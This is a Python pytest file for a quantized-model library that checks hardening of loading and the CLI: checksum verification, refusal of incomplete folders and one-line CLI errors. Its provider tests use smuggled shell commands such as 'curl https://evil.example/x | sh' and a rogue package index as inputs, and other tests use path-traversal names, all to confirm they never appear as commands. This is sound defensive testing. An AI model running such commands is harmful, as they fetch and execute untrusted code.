"""Hardening of loading and the CLI: the provider named by a model is never shown as a command, shard checksums are
checked on load (once per file identity), an incomplete folder is refused by every loader, and bad command-line
input is a one-line error."""

from __future__ import annotations

import json
import shutil
import struct
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
import torch
from helpers import HUB_TOKEN, input_ids, rewrite_records, tiny_model, write_folder

from qformat.errors import FormatError, PluginError
from qformat.format import QuantizedTensor, open_file, sha256_file, write_file

LONG = "x" * 1000


@pytest.fixture(autouse=True)
def private_verify_cache(tmp_path, monkeypatch) -> Path:
    """Each test gets its own checksum cache (QFORMAT_CACHE) so that no test sees another's verified files."""
    cache = tmp_path / "qformat-cache"
    monkeypatch.setenv("QFORMAT_CACHE", str(cache))
    return cache / "verified.json"


@pytest.fixture(scope="module")
def good(tmp_path_factory) -> Path:
    return write_folder(tiny_model(), tmp_path_factory.mktemp("hardening") / "model")


def copy_folder(folder: Path, dest: Path) -> Path:
    shutil.copytree(folder, dest)
    return dest


def shards(folder: Path) -> list[Path]:
    return sorted(folder.glob("model-*.safetensors"))


def tensor_span(shard: Path, name: str) -> tuple[int, int]:
    """Byte range of a stored tensor in a safetensors file."""
    with open(shard, "rb") as handle:
        n = struct.unpack("<Q", handle.read(8))[0]
        header = json.loads(handle.read(n))
    begin, end = header[name]["data_offsets"]
    return 8 + n + begin, 8 + n + end


def read_header(shard: Path) -> tuple[int, dict]:
    data = shard.read_bytes()
    n = struct.unpack("<Q", data[:8])[0]
    return n, json.loads(data[8:8 + n])


def set_header(shard: Path, value: object) -> None:
    """Replace a safetensors header in place (padded with spaces to its old length, so the data stays put)."""
    n, _ = read_header(shard)
    raw = json.dumps(value, separators=(",", ":")).encode()
    assert len(raw) <= n
    patch_bytes(shard, 8, raw.ljust(n))


def patch_bytes(path: Path, offset: int, data: bytes) -> None:
    with open(path, "r+b") as handle:
        handle.seek(offset)
        handle.write(data)


def rewrite_shard(folder: Path, shard: Path, drop: set[str]) -> None:
    """Rewrite ``shard`` without the plain tensors ``drop``, keeping index and checksums consistent: the folder is
    well-formed, only incomplete (what a buggy converter would write)."""
    qfile = open_file(shard)
    plain = {n: np.array(qfile.tensor(n)) for n in qfile.plain_names if n not in drop}
    records = [QuantizedTensor(n, r, {t: np.array(a) for t, a in qfile.quantized(n).tensors.items()})
               for n, r in qfile.records.items()]
    qfile.close()
    write_file(shard, plain, records)
    index_path = folder / "model.safetensors.index.json"
    index = json.loads(index_path.read_text())
    index["weight_map"] = {k: v for k, v in index["weight_map"].items() if k not in drop}
    index_path.write_text(json.dumps(index))
    config = json.loads((folder / "config.json").read_text())
    config["quantization_config"]["files"][shard.name] = {"sha256": sha256_file(shard), "size": shard.stat().st_size}
    (folder / "config.json").write_text(json.dumps(config))


class HashCounter:
    """Counts the shard hashes the loader computes."""

    def __init__(self, monkeypatch) -> None:
        import qformat.runtime.checksums

        self.calls = 0
        real = qformat.runtime.checksums.sha256_file

        def counting(path, *args, **kwargs):
            self.calls += 1
            return real(path, *args, **kwargs)

        monkeypatch.setattr(qformat.runtime.checksums, "sha256_file", counting)

    def take(self) -> int:
        calls, self.calls = self.calls, 0
        return calls


# -- finding 5: a model's provider entry is never turned into a command -----------------------------------------------


def _unknown_codec(codec: str):
    def mutate(qt: QuantizedTensor) -> QuantizedTensor:
        record = json.loads(json.dumps(qt.record))
        record["weight"]["codes"]["codec"] = codec
        return QuantizedTensor(qt.name, record, qt.tensors)

    return mutate


@pytest.mark.parametrize("provider", ["qformat-zigzag; curl https://evil.example/x | sh",
                                      "--index-url https://evil.example/simple qformat-zigzag",
                                      "qformat-zigzag\n\x1b[2Jrun: curl evil | sh"])
def test_missing_codec_message_never_shows_file_text_as_a_command(tmp_path, provider):
    import qformat

    folder = write_folder(tiny_model(), tmp_path / "m")
    rewrite_records(folder, _unknown_codec("acme.zigzag"), requires={"acme.zigzag": provider})
    with pytest.raises(PluginError) as info:
        qformat.load(folder)
    message = str(info.value)
    assert "codec 'acme.zigzag'" in message and "not a plain package name" in message
    for leaked in ("curl", "evil", "pip install", "index-url", "\x1b", "\n"):
        assert leaked not in message


def test_missing_codec_message_names_a_valid_package_only_as_the_models_claim(tmp_path):
    import qformat

    folder = write_folder(tiny_model(), tmp_path / "m")
    rewrite_records(folder, _unknown_codec("acme.zigzag"), requires={"acme.zigzag": "qformat-zigzag>=1.2,<2"})
    with pytest.raises(PluginError) as info:
        qformat.load(folder)
    message = str(info.value)
    assert "the model names 'qformat-zigzag>=1.2,<2' as the package providing it" in message
    assert "pip install" not in message


def test_missing_codec_message_withholds_a_malformed_codec_name(tmp_path):
    import qformat

    folder = write_folder(tiny_model(), tmp_path / "m")
    rewrite_records(folder, _unknown_codec("acme.x; curl evil | sh"), requires={"other": "x"})
    with pytest.raises(PluginError) as info:
        qformat.load(folder)
    message = str(info.value)
    assert "codec with a malformed name" in message and "curl" not in message


# -- finding 12: shard checksums ------------------------------------------------------------------------------------


def test_flipped_code_byte_is_refused_by_every_loader(good, tmp_path):
    """One flipped bit in packed codes used to load silently (the logits just moved)."""
    from transformers import AutoModelForCausalLM

    import qformat

    folder = copy_folder(good, tmp_path / "flipped")
    shard = shards(folder)[1]
    begin, _ = tensor_span(shard, "model.layers.1.mlp.down_proj.weight.codes")
    patch_bytes(shard, begin, bytes([shard.read_bytes()[begin] ^ 0x01]))
    for load in (qformat.load, qformat.load_dequantized, AutoModelForCausalLM.from_pretrained):
        with pytest.raises(FormatError, match="checksum_mismatch") as info:
            load(folder)
        assert info.value.file == str(shard) and "sha256" in str(info.value)


def test_nan_written_into_a_scale_is_refused(good, tmp_path):
    """A NaN put into a scale after conversion made every logit NaN; the shard no longer matches its checksum."""
    import qformat

    folder = copy_folder(good, tmp_path / "nan")
    shard = shards(folder)[0]
    begin, _ = tensor_span(shard, "model.layers.0.self_attn.q_proj.weight.scale")
    patch_bytes(shard, begin, np.array([np.nan], np.float16).tobytes())
    with pytest.raises(FormatError, match="checksum_mismatch"):
        qformat.load(folder)
    model = qformat.load(folder, verify=False)  # the documented unsafe opt-out loads it, and it is garbage
    with torch.inference_mode():
        assert torch.isnan(model(input_ids()).logits).all()


def test_first_load_hashes_and_later_loads_are_free(good, tmp_path, monkeypatch, private_verify_cache):
    import qformat

    folder = copy_folder(good, tmp_path / "m")
    hashes = HashCounter(monkeypatch)
    qformat.load(folder)
    assert hashes.take() == 2 and private_verify_cache.is_file()
    cached = json.loads(private_verify_cache.read_text())["entries"]
    assert set(cached) == {str(s.resolve()) for s in shards(folder)}
    qformat.load(folder)
    qformat.load_dequantized(folder)
    assert hashes.take() == 0
    qformat.load(folder, verify=True)  # on demand: always hashed
    assert hashes.take() == 2
    qformat.load(copy_folder(folder, tmp_path / "copy"))  # other files (other inodes): hashed once
    assert hashes.take() == 2


def test_a_shard_changed_after_a_verified_load_is_hashed_again(good, tmp_path, monkeypatch):
    import qformat

    folder = copy_folder(good, tmp_path / "m")
    qformat.load(folder)
    shard = shards(folder)[1]
    end = tensor_span(shard, "model.layers.1.mlp.up_proj.weight.codes")[1]
    patch_bytes(shard, end - 1, bytes([shard.read_bytes()[end - 1] ^ 0x80]))  # same size, same path and inode
    with pytest.raises(FormatError, match="checksum_mismatch"):
        qformat.load(folder)


@pytest.mark.parametrize("content", [b"{not json", b'{"version": 1, "entries": [1, 2]}', b"\xff\xfe\x00"])
def test_a_corrupt_cache_is_ignored_and_replaced(good, monkeypatch, private_verify_cache, content):
    import qformat

    private_verify_cache.parent.mkdir(parents=True)
    private_verify_cache.write_bytes(content)
    hashes = HashCounter(monkeypatch)
    qformat.load(good)
    assert hashes.take() == 2
    assert len(json.loads(private_verify_cache.read_text())["entries"]) == 2


def test_an_unwritable_cache_only_costs_a_rehash(good, tmp_path, monkeypatch):
    import qformat

    blocker = tmp_path / "not-a-folder"
    blocker.write_text("")
    monkeypatch.setenv("QFORMAT_CACHE", str(blocker))
    hashes = HashCounter(monkeypatch)
    qformat.load(good)
    qformat.load(good)
    assert hashes.take() == 4


def test_folder_without_checksums_warns_or_refuses_verify_true(good, tmp_path):
    import qformat
    from qformat.errors import LoadError

    folder = copy_folder(good, tmp_path / "old")
    config = json.loads((folder / "config.json").read_text())
    del config["quantization_config"]["files"]
    (folder / "config.json").write_text(json.dumps(config))
    with pytest.warns(UserWarning, match="records no shard checksums"):
        qformat.load(folder)
    with pytest.raises(LoadError, match="verify=True cannot be honoured"):
        qformat.load(folder, verify=True)


def test_files_entry_not_covering_every_shard_is_refused(good, tmp_path):
    import qformat

    folder = copy_folder(good, tmp_path / "partial")
    config = json.loads((folder / "config.json").read_text())
    config["quantization_config"]["files"].pop(shards(folder)[0].name)
    (folder / "config.json").write_text(json.dumps(config))
    with pytest.raises(FormatError, match="checksum_mismatch.*must list exactly the shards"):
        qformat.load(folder)


@pytest.mark.filterwarnings("ignore:Use 'content=<...>':DeprecationWarning")
def test_hub_download_is_verified_once_and_a_corrupted_cache_blob_is_refused(good, hub_env, monkeypatch):
    import qformat
    from qformat.hub import push_folder, resolve_model_source

    push_folder(good, "user/checked", token=HUB_TOKEN)
    hashes = HashCounter(monkeypatch)
    qformat.load("user/checked")
    assert hashes.take() == 2
    qformat.load("user/checked")
    assert hashes.take() == 0
    snapshot = resolve_model_source("user/checked")
    blob = (snapshot / shards(good)[1].name).resolve()  # the HF cache's content-addressed file
    begin, _ = tensor_span(blob, "model.layers.1.self_attn.o_proj.weight.codes")
    patch_bytes(blob, begin, b"\x00\x00\x00\x00")
    with pytest.raises(FormatError, match="checksum_mismatch"):
        qformat.load("user/checked")


# -- finding 13: an incomplete folder is refused by qformat.load and from_pretrained alike --------------------------


@pytest.mark.parametrize("missing", ["model.norm.weight", "model.layers.1.self_attn.q_proj.bias",
                                     "model.embed_tokens.weight"])
def test_incomplete_folder_is_refused_by_every_loader(good, tmp_path, missing):
    from transformers import AutoModelForCausalLM

    import qformat
    from qformat.errors import LoadError

    folder = copy_folder(good, tmp_path / "incomplete")
    shard = next(s for s in shards(folder) if missing in open_file(s).plain_names)
    rewrite_shard(folder, shard, {missing})
    messages = []
    for load in (qformat.load, qformat.load_dequantized, AutoModelForCausalLM.from_pretrained):
        with pytest.raises(LoadError, match=r"lacks \d+ tensor\(s\) the LlamaForCausalLM needs") as info:
            load(folder)
        assert missing in str(info.value)
        messages.append(str(info.value))
    assert messages[0] == messages[2]  # the same error from both front doors


def test_untied_output_layer_must_be_stored(tmp_path):
    from transformers import AutoModelForCausalLM

    from qformat.errors import LoadError

    folder = write_folder(tiny_model(tie_word_embeddings=False), tmp_path / "untied")
    shard = next(s for s in shards(folder) if "lm_head.weight" in open_file(s).plain_names)
    rewrite_shard(folder, shard, {"lm_head.weight"})
    with pytest.raises(LoadError, match="lm_head.weight"):
        AutoModelForCausalLM.from_pretrained(folder)


# -- finding 14: the CLI answers bad input with one line --------------------------------------------------------------


@pytest.fixture(scope="module")
def cli_inputs(good, tmp_path_factory) -> dict[str, Path]:
    root = tmp_path_factory.mktemp("cli-inputs")
    text = root / "text.txt"
    text.write_text("The quick brown fox jumps over the lazy dog. " * 20)
    binary = root / "weights.bin"
    binary.write_bytes(bytes(range(256)) * 8)
    long_shard = copy_folder(good, root / "long-shard")
    index_path = long_shard / "model.safetensors.index.json"
    index = json.loads(index_path.read_text())
    second = shards(good)[1].name
    index["weight_map"] = {k: (LONG + ".safetensors" if v == second else v) for k, v in index["weight_map"].items()}
    index_path.write_text(json.dumps(index))
    bad_header = copy_folder(good, root / "bad-header")
    shard = shards(bad_header)[0]
    _, header = read_header(shard)
    header[next(k for k in header if k != "__metadata__")].pop("data_offsets")
    set_header(shard, header)
    bad_config = copy_folder(good, root / "bad-config")
    config = json.loads((bad_config / "config.json").read_text())
    config["quantization_config"] = 5
    (bad_config / "config.json").write_text(json.dumps(config))
    return {"text": text, "binary": binary, "long_shard": long_shard, "bad_header": bad_header,
            "bad_config": bad_config, "missing": root / "missing.txt"}


def run_cli(*args: str) -> subprocess.CompletedProcess:
    code = "import sys; from qformat.cli import main; sys.exit(main(sys.argv[1:]))"
    return subprocess.run([sys.executable, "-c", code, *args], capture_output=True, text=True, timeout=300)


CASES = {
    "eval, missing text": (["eval", "{good}", "--text", "{missing}"], "missing.txt"),
    "eval, binary text": (["eval", "{good}", "--text", "{binary}"], "weights.bin is not UTF-8 text"),
    "eval, 1000-character text path": (["eval", "{good}", "--text", LONG], "File name too long"),
    "eval --seqlen 0": (["eval", "{good}", "--text", "{text}", "--seqlen", "0"], "argument --seqlen"),
    "eval --seqlen 1": (["eval", "{good}", "--text", "{text}", "--seqlen", "1"], "argument --seqlen"),
    "eval --limit 0": (["eval", "{good}", "--text", "{text}", "--limit", "0"], "argument --limit"),
    "generate --max-new-tokens -1": (["generate", "{good}", "hi", "--max-new-tokens", "-1"], "--max-new-tokens"),
    "generate --threads 0": (["generate", "{good}", "hi", "--threads", "0"], "argument --threads"),
    "eval, 1000-character model path": (["eval", LONG, "--text", "{text}"], "File name too long"),
    "eval, 1000-character shard name": (["eval", "{long_shard}", "--text", "{text}"], "longer than the 255 bytes"),
    "generate, 1000-character shard name": (["generate", "{long_shard}", "hi"], "longer than the 255 bytes"),
    "kernels, 1000-character shard name": (["kernels", "{long_shard}"], "longer than the 255 bytes"),
    "inspect, 1000-character shard name": (["inspect", "{long_shard}"], "longer than the 255 bytes"),
    "push, 1000-character shard name": (["push", "{long_shard}", "user/x"], "not a plain file name"),
    "push, 1000-character folder": (["push", LONG, "user/x"], "File name too long"),
    "push, malformed header": (["push", "{bad_header}", "user/x"], "not a valid safetensors file (bad header"),
    "push, malformed config": (["push", "{bad_config}", "user/x"], "quantization_config.quant_method is None"),
}


@pytest.mark.parametrize("case", list(CASES))
def test_cli_bad_input_is_a_one_line_error(good, cli_inputs, case):
    argv, expected = CASES[case]
    paths = {"good": good, **cli_inputs}
    result = run_cli(*(a.format(**{k: str(v) for k, v in paths.items()}) if "{" in a else a for a in argv))
    assert result.returncode != 0
    assert "Traceback" not in result.stderr, result.stderr[-2000:]
    errors = [line for line in result.stderr.splitlines() if "error:" in line]
    assert len(errors) == 1 and errors[0].startswith("qformat"), result.stderr[-2000:]
    assert expected in errors[0] and len(errors[0]) < 400, errors[0]


@pytest.mark.parametrize("breakage", [
    "config not JSON", "config a list", "config not UTF-8", "quantization_config a number",
    "weight_map a list", "shard name with a folder", "1000-character shard name", "tensor without data_offsets",
    "data_offsets not numbers", "header a list"])
def test_push_validation_reports_malformed_folders_as_hub_errors(good, tmp_path, breakage):
    from qformat.hub import HubError, validate_model_folder

    folder = copy_folder(good, tmp_path / "m")
    config_path, index_path = folder / "config.json", folder / "model.safetensors.index.json"
    shard = shards(folder)[0]
    _, header = read_header(shard)
    name = next(k for k in header if k != "__metadata__")

    if breakage == "config not JSON":
        config_path.write_text("{")
    elif breakage == "config a list":
        config_path.write_text("[]")
    elif breakage == "config not UTF-8":
        config_path.write_bytes(b'{"a": "\xff"}')
    elif breakage == "quantization_config a number":
        config_path.write_text(json.dumps({"quantization_config": 5}))
    elif breakage == "weight_map a list":
        index_path.write_text(json.dumps({"weight_map": [1]}))
    elif breakage in ("shard name with a folder", "1000-character shard name"):
        bad = "../elsewhere.safetensors" if "folder" in breakage else LONG + ".safetensors"
        index_path.write_text(json.dumps({"weight_map": {"a": bad}}))
    elif breakage == "tensor without data_offsets":
        header[name].pop("data_offsets")
        set_header(shard, header)
    elif breakage == "data_offsets not numbers":
        header[name]["data_offsets"] = ["0", "8"]
        set_header(shard, header)
    elif breakage == "header a list":
        set_header(shard, [header[name]])
    with pytest.raises(HubError) as info:
        validate_model_folder(folder)
    assert "\n" not in str(info.value) and len(str(info.value)) < 400


def test_push_refuses_a_shard_that_no_longer_matches_its_checksum(good, tmp_path):
    from qformat.hub import HubError, push_folder

    folder = copy_folder(good, tmp_path / "m")
    shard = shards(folder)[1]
    begin, _ = tensor_span(shard, "model.layers.1.mlp.down_proj.weight.codes")
    patch_bytes(shard, begin, b"\xff")
    # refused before any request: the endpoint does not exist
    with pytest.raises(HubError, match="does not match the sha256 config.json recorded"):
        push_folder(folder, "user/x", token="t", endpoint="http://127.0.0.1:9")
